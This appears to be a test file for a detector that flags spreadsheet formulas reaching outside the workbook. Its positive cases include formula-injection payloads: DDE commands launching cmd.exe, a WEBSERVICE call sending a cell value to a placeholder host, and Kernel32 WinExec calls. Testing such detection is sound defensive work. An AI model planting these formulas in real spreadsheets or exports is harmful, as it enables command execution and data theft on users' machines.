import { reachesOut } from '../../../../src/core/formula/sheet/reachesOut';

describe('formulas of somebody’s own', () => {
  it.each([
    "cmd|'/c calc'!A0",
    "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
    'WEBSERVICE("http://example.com/"&A1)',
    'SUM(1,webservice ("x"))',
    '_xlfn.IMAGE("http://example.com/x.png")',
    'CALL("Kernel32","WinExec","JCJ","calc",0)',
    'REGISTER.ID("Kernel32","WinExec")',
    'HYPERLINK("http://example.com/","点这里")',
    "'\\\\10.0.0.1\\share\\[x.xlsx]S'!A1",
    "'C:\\data\\[x.xlsx]S'!A1",
    "'http://example.com/[x.xlsx]S'!A1",
    '[1]S!A1',
    'SUM(A1,[2]表!$B$2)',
    '[1]!名称',
    'RTD("prog",,"x")',
    '_xll.Foo(1)',
  ])('%s reaches out', (formula) => {
    expect(reachesOut(formula)).toBe(true);
  });

  it.each([
    'SUM(A1:B2)/COUNT(基础数据!C:C)',
    "'龙河镇'!G12+1",
    '"cmd|x"&A1',
    '"WEBSERVICE(1) [1]S!A1 \\\\x"',
    'SUM(表1[数量])',
    'SUM(表1[[#This Row],[数量]])',
    'IF(A1>0,"是","否")',
    'TEXT(A1,"0.00")&"|"',
    'CALLS(1)',
    'HYPERLINK("#\'龙河镇\'!A1","龙河镇")',
  ])('%s stays', (formula) => {
    expect(reachesOut(formula)).toBe(false);
  });

  it('are told in time, whatever their length', () => {
    for (const piece of ['[', "'", '"', 'a', '(', 'HYPERLINK(', 'a ', '表[', '\\'.slice(0, 1)])
      expect(typeof reachesOut(piece.repeat(400_000))).toBe('boolean');
  });
});
